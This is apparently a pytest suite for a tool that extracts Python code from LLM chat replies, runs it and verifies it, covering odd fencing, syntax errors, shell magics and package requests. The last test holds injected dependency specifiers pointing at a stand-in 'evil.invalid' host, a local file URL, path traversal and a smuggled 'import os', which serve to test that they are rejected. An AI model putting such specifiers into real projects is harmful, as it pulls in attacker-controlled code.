"""The answer has code in it, wrapped up or written in an odd way."""

from __future__ import annotations

import html
import json
from pathlib import Path

import pytest

from tests.llm_faults.desk import GOOD, SCRIPT, Desk
from tests.models.answers import CHAT, reply
from tests.models.servers import StandInServer, as_json

SHORT = "print('a first step')\n"


def fenced(source: str, tag: str = "python") -> str:
    return f"```{tag}\n{source.rstrip()}\n```"


def prompts(server: StandInServer) -> list[str]:
    """What the user's side said last in each question."""
    return [body["messages"][-1]["content"] for body in server.bodies(CHAT)]


WRAPPED = {
    "prose-around": f"Sure! Here it is:\n\n{GOOD}\n\nRun it with `python greet.py`.",
    "no-tag": fenced(SCRIPT, ""),
    "python3": fenced(SCRIPT, "python3"),
    "py": fenced(SCRIPT, "Py"),
    "bash-before": f"{fenced('pip install pathlib', 'bash')}\n\n{GOOD}",
    "bash-after": f"{GOOD}\n\nThen:\n\n{fenced('python greet.py', 'bash')}",
    "tagged-bash": fenced(SCRIPT, "bash"),
    "two-blocks": f"{fenced(SHORT)}\n\nOr, complete:\n\n{GOOD}",
    "tildes": f"~~~python\n{SCRIPT}~~~",
    "four-ticks": f"````python\n{SCRIPT}````",
    "no-fence": SCRIPT,
    "no-fence-in-prose": f"Here is the script:\n\n{SCRIPT}\nThis writes the word into the file.",
    "json": json.dumps({"language": "python", "code": SCRIPT}),
    "json-in-a-fence": fenced(json.dumps({"code": SCRIPT}, indent=2), "json"),
    "html-escaped": fenced(html.escape(SCRIPT)),
    "html-escaped-numbers": fenced(SCRIPT.replace("'", "&#39;")),
    "code-tags": f"<code>\n{SCRIPT}</code>",
    "quotation": "".join(f"> {text}\n" for text in GOOD.split("\n")),
    "list-item": "1. The script:\n\n" + "".join(f"   {text}\n" for text in GOOD.split("\n")),
    "crlf": GOOD.replace("\n", "\r\n"),
}


@pytest.mark.parametrize("how", WRAPPED)
def test_L19_script_is_found(desk: Desk, server: StandInServer, how: str) -> None:
    """Whatever stands around it: one question, and exactly this script is run."""
    server.on("POST", CHAT, reply(WRAPPED[how]))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert [source.strip() for source in run.sources] == [SCRIPT.strip()]
    assert len(server.bodies(CHAT)) == 1


PROSE = {
    "prose": "The word is written into the file with the method write_text of pathlib.",
    "shell-only": fenced("echo hello > greeting.txt", "bash"),
}


@pytest.mark.parametrize("how", PROSE)
def test_L19_prose_is_asked_again_with_the_complaint(
    desk: Desk, server: StandInServer, how: str
) -> None:
    """The next question says what was wrong with the answer."""
    server.on("POST", CHAT, reply(PROSE[how]), reply(GOOD))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    first, second = prompts(server)
    assert second != first
    assert "code" in second.replace(first, "").lower()


BROKEN = {
    "bracket": "print(('hello')\nx = = 1",
    "python-2": "print 'hello'\nraise SystemExit, 3",
    "indentation": "def main():\nprint('hello')\n    x = 1",
    "other-language": "int main() { printf('hello'); }",
}


@pytest.mark.parametrize("how", BROKEN)
def test_L21_syntax_error_is_told_before_anything_runs(
    desk: Desk, server: StandInServer, how: str
) -> None:
    """A script that does not compile goes back with the message of the compiler."""
    server.on("POST", CHAT, reply(fenced(BROKEN[how])), reply(GOOD))
    run = desk.code_it("--apply-linter")
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert len(run.events("run")) == 1
    _, second = prompts(server)
    assert "line 1" in second or "line 2" in second or "SyntaxError" in second


def test_L21_syntax_errors_without_end(desk: Desk, server: StandInServer) -> None:
    """Nothing is run, and the attempts are counted."""
    server.on("POST", CHAT, reply(fenced(BROKEN["python-2"])))
    run = desk.code_it("--apply-linter", "--max-attempts", "3")
    assert (run.code, run.verdict) == (1, "FAILED"), run.err
    assert run.events("run") == []
    assert len(server.bodies(CHAT)) <= 12


@pytest.mark.parametrize(
    "magic",
    [
        "%matplotlib inline",
        "!pip install pathlib2",
        "%pip install pathlib2",
        "pip install pathlib2",
    ],
)
def test_L21_magics_are_left_out(desk: Desk, server: StandInServer, magic: str) -> None:
    """Lines of notebooks and shells that models know by heart cost no further question."""
    server.on("POST", CHAT, reply(fenced(f"{magic}\n{SCRIPT}")))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert len(server.bodies(CHAT)) == 1


@pytest.mark.parametrize("magic", ["!touch {mark}", "%%bash\ntouch {mark}", "$ touch {mark}"])
def test_L21_magics_are_never_carried_out(
    desk: Desk, server: StandInServer, tmp_path: Path, magic: str
) -> None:
    """Other lines of that kind are left out or sent back; no shell sees them."""
    mark = tmp_path / "touched"
    server.on("POST", CHAT, reply(fenced(f"{magic.format(mark=mark)}\n{SCRIPT}")), reply(GOOD))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert not mark.exists()
    assert "touch" not in run.sources[-1]


def test_L21_install_line_names_a_package(desk: Desk, server: StandInServer) -> None:
    """`!pip install` is read as a wish, which the rules for packages judge."""
    wish = "!pip install zz-no-such-pkg-here\nimport zz_no_such_pkg_here\n"
    server.on("POST", CHAT, reply(fenced(wish + SCRIPT)))
    run = desk.code_it("--max-attempts", "1", "--dependency-samples", "0")
    assert run.code == 5, run.err
    assert run.events("requirements")[0]["hints"] == ["zz-no-such-pkg-here"]
    assert run.events("requirements")[0]["requirements"]["allowed"] == []


INSTALLS = {
    "subprocess": "import subprocess\nimport sys\n\n"
    "subprocess.run([sys.executable, '-m', 'pip', 'install', 'requests'], check=True)\n",
    "os-system": "import os\n\n"
    "if os.system('pip install requests'):\n    raise SystemExit('pip failed')\n",
}


@pytest.mark.parametrize("how", INSTALLS)
def test_L22_script_that_installs_for_itself(desk: Desk, server: StandInServer, how: str) -> None:
    """It fails, for lack of a network and of a place to write to; the model is told the way."""
    server.on("POST", CHAT, reply(fenced(INSTALLS[how] + SCRIPT)), reply(GOOD))
    run = desk.code_it("--isolation", "auto")
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    first, *_ = (event["run"] for event in run.events("run"))
    assert first["returncode"] != 0
    assert first["network"] is False
    hint = prompts(server)[1].lower()
    assert "do not install" in hint or "without installing" in hint


def test_L23_package_that_does_not_exist(desk: Desk, server: StandInServer) -> None:
    """The refusal and its reason are in the next question, and another script is taken."""
    wrong = "import zz_no_such_pkg_here\n\nzz_no_such_pkg_here.go()\n"
    server.on("POST", CHAT, reply(fenced(wrong)), reply(GOOD))
    run = desk.code_it("--dependency-samples", "0")
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert "zz_no_such_pkg_here" in prompts(server)[1]
    assert "not among the 15,000 most downloaded" in prompts(server)[1]


def stubborn(number: int) -> str:
    """A script that is another one each time, and wants the same package."""
    return fenced(f"import zz_no_such_pkg_here\n\nzz_no_such_pkg_here.go({number})\n")


def test_L23_package_is_banned_when_it_comes_again(desk: Desk, server: StandInServer) -> None:
    """After two rounds every further question, fresh ones too, says to do without it."""
    server.on("POST", CHAT, *[reply(stubborn(number)) for number in range(20)])
    run = desk.code_it("--dependency-samples", "0", "--no-plan-retries")
    assert run.code == 5, run.err
    later = prompts(server)[3:]
    assert later
    assert all("zz_no_such_pkg_here" in prompt for prompt in later)


def test_L23_package_is_not_wanted_for_ever(desk: Desk, server: StandInServer) -> None:
    """The attempts are used up, the name and the way out are told, and nothing was installed."""
    server.on("POST", CHAT, *[reply(stubborn(number)) for number in range(40)])
    run = desk.code_it("--dependency-samples", "1", "--max-attempts", "4")
    assert run.code == 5, run.err
    assert "allow zz-no-such-pkg-here" in run.out
    allowed = [event["requirements"]["allowed"] for event in run.events("requirements")]
    assert not any(allowed)
    assert len(server.bodies(CHAT)) <= 16


# Of the same kind


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(SCRIPT.replace("'", "’").replace("(’", "(‘"), id="curly-quotes"),
        pytest.param("\n" + SCRIPT.replace(" ", "\u00a0"), id="no-break-spaces"),
        pytest.param("\ufeff" + SCRIPT, id="byte-order-mark"),
        pytest.param(SCRIPT.replace("Path", "Pa\u200bth"), id="invisible-characters"),
        pytest.param("".join(f"    {text}\n" for text in SCRIPT.split("\n")), id="indented"),
        pytest.param("".join(f">>> {text}\n" for text in SCRIPT.splitlines()), id="session"),
    ],
)
def test_L20_odd_characters_are_mended(desk: Desk, server: StandInServer, source: str) -> None:
    """What chat programs do to code is undone without a further question."""
    server.on("POST", CHAT, reply(fenced(source)))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert len(server.bodies(CHAT)) == 1


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("x = " + "(" * 5_000 + ")" * 5_000, id="brackets"),
        pytest.param("x = " + "-" * 50_000 + "1", id="signs"),
        pytest.param("if 1:\n" + "".join(" " * n + "if 1:\n" for n in range(1, 150)), id="blocks"),
        pytest.param("x = '" + "a" * 50_000 + "'", id="a-long-line"),
        pytest.param("".join(f"x{n} = {n}\n" for n in range(500)), id="many-lines"),
        pytest.param("# \ud800 \udfff\nraise SystemExit(3)", id="halves-of-characters"),
    ],
)
def test_L20_source_that_is_hard_to_read(desk: Desk, server: StandInServer, source: str) -> None:
    """Code that breaks readers of code is a failed try, and the next one is taken."""
    message = {"message": {"content": fenced(source)}, "finish_reason": "stop"}
    server.on("POST", CHAT, as_json({"choices": [message]}), reply(GOOD))
    run = desk.code_it("--max-attempts", "3")
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert "defect" not in run.err


@pytest.mark.parametrize(
    "wish",
    [
        "evil @ file:///tmp/evil",
        "--index-url=http://evil.invalid evil",
        "git+https://evil.invalid/evil.git",
        "../evil",
        "requests; import os",
    ],
)
def test_L24_wishes_that_are_no_names(desk: Desk, server: StandInServer, wish: str) -> None:
    """What is asked for in a comment is judged as a name, or left out: never handed on."""
    header = f'# /// script\n# dependencies = ["{wish}"]\n# ///\n# pip install {wish}\n'
    server.on("POST", CHAT, reply(fenced(header + SCRIPT)))
    run = desk.code_it()
    assert (run.code, run.verdict) == (0, "VERIFIED"), run.err
    assert run.events("requirements")[0]["requirements"]["allowed"] == []
    assert "evil" not in (desk.folder / "persistent_source.py").read_text().split("///")[1]
